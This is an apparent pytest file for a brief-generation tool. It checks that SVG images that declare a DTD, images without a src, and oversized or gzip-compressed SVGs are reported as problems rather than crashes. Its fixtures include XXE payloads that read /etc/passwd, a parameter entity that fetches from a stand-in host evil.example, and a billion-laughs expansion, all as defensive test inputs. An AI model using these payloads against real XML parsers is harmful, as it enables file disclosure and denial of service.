"""Images a brief cannot use, as problems rather than tracebacks (issue 11): an SVG
that declares a DTD (svg.py: found however it is written, with nothing expanded or
fetched), an <img> without a src, SVGs the Word writer cannot rasterise."""

from __future__ import annotations

from pathlib import Path

import pytest

from briefgen.errors import BriefgenError
from briefgen.svg import REFUSED, declares_dtd, looks_like_svg, svg_refusal

from .conftest import run_cli

BODY = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><text>{}</text></svg>'
WITH_DTD = {
    "internal entity": '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + BODY.format("&a;"),
    "external entity (XXE)": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                             + BODY.format("&x;"),
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'
                        + BODY.format("hi"),
    "billion laughs": '<!DOCTYPE svg [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;">'
                      '<!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;">]>' + BODY.format("&l3;"),
    "attribute defaults": '<!DOCTYPE svg [<!ATTLIST image href CDATA "file:///etc/passwd">]>'
                          + BODY.format("hi"),
    "external DTD only": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + BODY.format("hi"),
    "not well-formed": '<!DOCTYPE svg [<!ENTITY a "x">]><svg>&a;<g></svg>',
    "lower-case doctype, not well-formed": '<!doctype svg [<!ENTITY a "x">]><svg>&a;',
}


@pytest.mark.parametrize("text", WITH_DTD.values(), ids=WITH_DTD.keys())
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_svg_with_a_dtd_is_found(text: str, encoding: str) -> None:
    declaration = f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n'
    assert declares_dtd((declaration + text).encode(encoding))


@pytest.mark.parametrize("text", [BODY.format("hi"), BODY.format("&lt;DOCTYPE&gt; &amp;"),
                                  BODY.format("<![CDATA[<!DOCTYPE svg [<!ENTITY a 'b'>]>]]>"),
                                  '<?xml version="1.0"?><!-- a comment -->' + BODY.format("")])
def test_an_svg_without_one_is_not(text: str) -> None:
    assert not declares_dtd(text.encode("utf-8"))
    assert looks_like_svg(text.encode("utf-8"))


def test_fonts_and_pictures_do_not_look_like_svg() -> None:
    assert not looks_like_svg(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    assert not looks_like_svg(b"wOF2" + b"\0" * 64)


def test_the_message_names_the_image_and_says_why() -> None:
    message = svg_refusal("images/logo.svg")
    assert message.startswith(f"image 'images/logo.svg': {REFUSED}")
    assert REFUSED == "SVG with a DTD/entities is refused"


# -- images the Word writer cannot use --------------------------------------------------


def _template_image(project: Path, markup: str) -> None:
    partial = project / "templates" / "brief" / "partials" / "summary.html.j2"
    partial.parent.mkdir(parents=True, exist_ok=True)
    partial.write_text(f'<section id="summary">\n  <h2>Summary</h2>\n  {markup}\n</section>\n',
                       "utf-8")


@pytest.mark.parametrize("markup", ['<img alt="x">', '<img src="" alt="x">',
                                    '<img src="  " srcset="a.png 1x" alt="x">'])
def test_an_image_without_a_src_is_a_problem_not_a_traceback(project: Path,
                                                             markup: str) -> None:
    _template_image(project, markup)
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1
    assert result.output.startswith("1 problem found:\n  template 'brief': image without a "
                                    "src: <img ")
    assert "Traceback" not in result.output


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{h}"><rect width="10" ' \
      'height="10"/></svg>'


def _cairosvg() -> None:
    try:
        import cairosvg  # noqa: F401
    except (ImportError, OSError):
        pytest.skip("cairosvg or libcairo2 not installed")


def test_an_svg_too_large_to_rasterise_is_a_problem(project: Path) -> None:
    _cairosvg()
    (project / "images").mkdir()
    (project / "images" / "huge.svg").write_text(SVG.format(w=20000, h=20000), "utf-8")
    _template_image(project, '<img src="images/huge.svg" alt="x">')
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1
    assert result.output == (
        "1 problem found:\n  template 'brief': image 'images/huge.svg' would be "
        "20000×20000 pixels at print resolution in Word (the limit is 50 megapixels): give "
        "the SVG a smaller width and height\n")


def test_a_compressed_svg_is_a_problem_for_word(project: Path) -> None:
    import gzip

    _cairosvg()
    (project / "images").mkdir()
    (project / "images" / "logo.svg").write_bytes(gzip.compress(b" " * 2**20))
    _template_image(project, '<img src="images/logo.svg" alt="x">')
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1  # the page layout for the table of contents reads it first
    assert result.output == ("1 problem found:\n  template 'brief': PDF rendering: image "
                             "'images/logo.svg' cannot be read: it is not an image file "
                             "briefgen can read\n")


def test_a_compressed_svg_is_refused_before_cairosvg_unpacks_it() -> None:
    import gzip

    from briefgen.writers.docx.convert import _rasterise_svg

    _cairosvg()
    with pytest.raises(BriefgenError, match=r"'logo.svgz' is a compressed SVG \(.svgz\)"):
        _rasterise_svg(gzip.compress(SVG.format(w=10, h=10).encode()), "logo.svgz", "here")
